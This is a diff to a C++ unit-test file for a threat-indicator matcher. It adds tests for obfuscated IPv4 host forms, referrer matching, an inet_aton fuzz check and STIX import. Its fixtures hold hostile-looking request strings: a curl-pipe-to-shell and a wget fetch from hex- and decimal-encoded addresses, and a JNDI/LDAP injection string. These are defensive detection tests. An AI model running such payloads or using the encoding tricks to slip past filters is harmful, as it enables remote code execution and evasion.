@@ -1,11 +1,14 @@
 #include "detect/ioc.h"
 
+#include <arpa/inet.h>
 #include <gtest/gtest.h>
 
 #include <chrono>
 #include <cstdio>
+#include <cstring>
 #include <fstream>
 #include <iostream>
+#include <random>
 #include <string>
 
 #include "detect/log_parser.h"
@@ -120,6 +123,19 @@ TEST(IocStoreTest, IndicatorsWrittenInsideAPayloadOrAMessage) {
             (V{"url.original=drop.test/stage2.sh"}));
   EXPECT_EQ(found("/x?next=http://a.test/?u=http://drop.test/stage2.sh", "-", true),
             (V{"url.original=drop.test/stage2.sh"}));
+  // A URL's host as a client reads it, in the forms payloads use to slip past dotted-quad
+  // filters: one decimal or hex number, octal or hex parts (198.51.100.9 = 3325256713 =
+  // 0xc6336409; 203.0.113.5 = 0313.0.0161.05).
+  EXPECT_EQ(found("/x?c=curl%20http://3325256713/x.sh|sh", "-", true),
+            (V{"url.original=198.51.100.9"}));
+  EXPECT_EQ(found("/x?c=wget+http://0xC6336409:8080/x", "-", true),
+            (V{"url.original=198.51.100.9"}));
+  EXPECT_EQ(found("/x", "${jndi:ldap://0313.0.0161.05/a}", true),
+            (V{"user_agent.original=203.0.113.0/24"}));
+  EXPECT_EQ(found("/x?u=http://u@0xcb.0.28933./", "-", true), (V{"url.original=203.0.113.0/24"}));
+  // Near misses: a bare number is no address, nor is a host that is a name or out of range.
+  EXPECT_EQ(found("/x?id=3325256713&u=http://3325256713.example/", "-", true), V{});
+  EXPECT_EQ(found("/x?u=http://0xc6336409a/&v=http://198.51.100.256/", "-", true), V{});
   // Near misses: a longer name, a version number, a file name, an address in another /24.
   EXPECT_EQ(found("/notevil.example/theme2.css?v=17.2.1&ip=198.51.100.90", "-", true), V{});
   EXPECT_EQ(found("/x?u=evil-example.test&n=198.51.100.9.5", "-", true), V{});
@@ -184,6 +200,32 @@ TEST(IocStoreTest, IndicatorsWrittenInsideAPayloadOrAMessage) {
 
 // An indicator without a query names the resource whatever parameters a request gives it; one
 // with a query names that query only.
+// The page a client came from, on a listed server named by address: in the dotted quad, in
+// brackets (IPv6), or in a form browsers read (one decimal number).
+TEST(IocStoreTest, ReferrerHostsAreLookedUpAsAddressesToo) {
+  IocStore store;
+  ASSERT_TRUE(store.Add(IocType::kIp, "198.51.100.9", "f", 0).ok());
+  ASSERT_TRUE(store.Add(IocType::kIp, "2001:db8::/32", "f", 0).ok());
+  auto found = [&](const std::string& referrer) {
+    Event ev;
+    ev.Set(Field::kSourceIp, "192.0.2.1");
+    ev.Set(Field::kHttpRequestReferrer, referrer);
+    std::vector<IocMatch> out;
+    store.MatchEvent(ev, kNow, &out);
+    std::vector<std::string> values;
+    for (const IocMatch& m : out)
+      values.push_back(std::string(FieldName(m.field)) + "=" + m.ioc->value);
+    return values;
+  };
+  using V = std::vector<std::string>;
+  EXPECT_EQ(found("http://198.51.100.9/login"), V{"http.request.referrer=198.51.100.9"});
+  EXPECT_EQ(found("https://u:p@3325256713:8443/"), V{"http.request.referrer=198.51.100.9"});
+  EXPECT_EQ(found("http://[2001:db8::7]:8080/a"), V{"http.request.referrer=2001:db8::/32"});
+  EXPECT_EQ(found("http://198.51.100.10/"), V{});
+  EXPECT_EQ(found("http://mdm.example.eu/?ip=198.51.100.9"), V{}) << "only the host";
+  EXPECT_EQ(found("/relative/198.51.100.9"), V{});
+}
+
 TEST(IocStoreTest, UrlWithoutQueryMatchesRequestsWithOne) {
   IocStore store;
   ASSERT_TRUE(store.Add(IocType::kUrl, "http://mdm.example.eu/mifs/403.jsp", "f", 0).ok());
@@ -326,6 +368,66 @@ TEST(IpParseTest, MappedNetworksInIpv6NotationCountIpv6Bits) {
   EXPECT_EQ(hit->value, "198.51.100.0/24");
   EXPECT_EQ(store.FindIp(Ip("198.51.101.1"), kNow), nullptr);
   EXPECT_FALSE(store.Add(IocType::kIp, "::ffff:198.51.100.0/24", "feed", 0).ok());
+}
+
+// inet_aton reads the same forms (BSD's, which the WHATWG URL standard took up), without the
+// trailing dot: random texts of the bytes these forms are made of are read alike.
+TEST(IpParseTest, UrlHostAddressesAsInetAtonReadsThem) {
+  for (const auto& [text, want] :
+       std::vector<std::pair<const char*, const char*>>{{"3325256713", "198.51.100.9"},
+                                                        {"0xc6336409", "198.51.100.9"},
+                                                        {"0XC6.0x33.0144.9", "198.51.100.9"},
+                                                        {"198.51.25609", "198.51.100.9"},
+                                                        {"198.3367945", "198.51.100.9"},
+                                                        {"0", "0.0.0.0"},
+                                                        {"4294967295", "255.255.255.255"},
+                                                        {"192.0.2.1.", "192.0.2.1"},
+                                                        {"01.02.03.04", "1.2.3.4"}}) {
+    auto ip = ParseUrlHostIpv4(text);
+    ASSERT_TRUE(ip.has_value()) << text;
+    EXPECT_TRUE(ip->v4);
+    EXPECT_EQ(FormatIp(*ip), want) << text;
+  }
+  for (const char* bad : {"",
+                          ".",
+                          "4294967296",
+                          "0x100000000",
+                          "256.0.0.1",
+                          "1.2.3.256",
+                          "1.2.65536",
+                          "1.16777216",
+                          "1.2.3.4.5",
+                          "1..2",
+                          ".1.2",
+                          "08",
+                          "0x1g",
+                          "1.2.3.4..",
+                          "0x",
+                          "1.0x",
+                          "evil.example",
+                          "3325256713.example",
+                          "1.2.3.4 ",
+                          "+1",
+                          "99999999999999999999999"}) {
+    EXPECT_FALSE(ParseUrlHostIpv4(bad).has_value()) << bad;
+  }
+  std::mt19937 rng(7);
+  constexpr char kBytes[] = "0123456789abcdefxX.";
+  size_t read = 0;
+  for (int round = 0; round < 200000; ++round) {
+    std::string text;
+    const size_t length = 1 + rng() % 14;
+    for (size_t i = 0; i < length; ++i) text.push_back(kBytes[rng() % (sizeof(kBytes) - 1)]);
+    if (text.back() == '.') continue;  // inet_aton takes no trailing dot
+    in_addr want{};
+    const bool aton = inet_aton(text.c_str(), &want) != 0;
+    auto ip = ParseUrlHostIpv4(text);
+    ASSERT_EQ(ip.has_value(), aton) << text;
+    if (!aton) continue;
+    ++read;
+    EXPECT_EQ(std::memcmp(ip->bytes.data() + 12, &want.s_addr, 4), 0) << text;
+  }
+  EXPECT_GT(read, 5000u) << "the texts must reach the forms that parse";
 }
 
 TEST(IpParseTest, DottedQuadsAsInetPtonReadsThem) {
@@ -644,24 +746,36 @@ TEST(IocImportTest, FeedsGiveSeverityAndTechniques) {
     {"type": "indicator", "id": "indicator--t5", "pattern": "[ipv4-addr:value = '203.0.113.5']", "indicator_types": ["anomalous-activity", "malicious-activity"]},
     {"type": "indicator", "id": "indicator--t6", "pattern": "[ipv4-addr:value = '203.0.113.6']", "indicator_types": []},
     {"type": "indicator", "id": "indicator--t7", "pattern": "[ipv4-addr:value = '203.0.113.7']", "indicator_types": "benign"},
-    {"type": "indicator", "id": "indicator--t8", "pattern": "[ipv4-addr:value = '203.0.113.8']", "indicator_types": ["benign", 3]}]})";
+    {"type": "indicator", "id": "indicator--t8", "pattern": "[ipv4-addr:value = '203.0.113.8']", "indicator_types": ["benign", 3]},
+    {"type": "indicator", "id": "indicator--t9", "pattern": "[ipv4-addr:value = '203.0.113.9']", "indicator_types": ["anonymization"], "confidence": 90},
+    {"type": "indicator", "id": "indicator--t10", "pattern": "[ipv4-addr:value = '203.0.113.10']", "indicator_types": ["malicious-activity", "benign"], "confidence": 40},
+    {"type": "indicator", "id": "indicator--t11", "pattern": "[ipv4-addr:value = '203.0.113.11']", "indicator_types": null},
+    {"type": "indicator", "id": "indicator--t12", "pattern": "[ipv4-addr:value = '203.0.113.12']", "labels": ["benign"]},
+    {"type": "indicator", "id": "indicator--t13", "pattern": "[ipv4-addr:value = '203.0.113.13']", "labels": ["anomalous-activity"]},
+    {"type": "indicator", "id": "indicator--t14", "pattern": "[ipv4-addr:value = '203.0.113.14']", "labels": ["benign"], "spec_version": "2.1"}]})";
   IocStore typed;
   auto types = ImportStix(kTypes, "stix-types.json", kNow, &typed);
   ASSERT_TRUE(types.ok()) << types.status().ToString();
-  EXPECT_EQ(types->added, 5u);
+  EXPECT_EQ(types->added, 10u);
   EXPECT_EQ(types->reasons["indicator_types says benign"], 1u);
+  EXPECT_EQ(types->reasons["labels says benign"], 1u) << "STIX 2.0's place for the types";
   EXPECT_EQ(types->reasons["indicator_types is not a list of strings"], 2u);
   for (const auto& [address, severity] :
        std::vector<std::pair<const char*, const char*>>{{"203.0.113.2", "high"},
                                                         {"203.0.113.3", "medium"},
                                                         {"203.0.113.4", "low"},
                                                         {"203.0.113.5", "high"},
-                                                        {"203.0.113.6", "high"}}) {
+                                                        {"203.0.113.6", "high"},
+                                                        {"203.0.113.9", "medium"},
+                                                        {"203.0.113.10", "medium"},
+                                                        {"203.0.113.11", "high"},
+                                                        {"203.0.113.13", "medium"},
+                                                        {"203.0.113.14", "high"}}) {
     const Ioc* typed_ioc = typed.FindIp(Ip(address), kNow);
     ASSERT_NE(typed_ioc, nullptr) << address;
     EXPECT_EQ(typed_ioc->severity, severity) << address;
   }
-  for (const char* skipped : {"203.0.113.1", "203.0.113.7", "203.0.113.8"}) {
+  for (const char* skipped : {"203.0.113.1", "203.0.113.7", "203.0.113.8", "203.0.113.12"}) {
     EXPECT_EQ(typed.FindIp(Ip(skipped), kNow), nullptr) << skipped;
   }
 
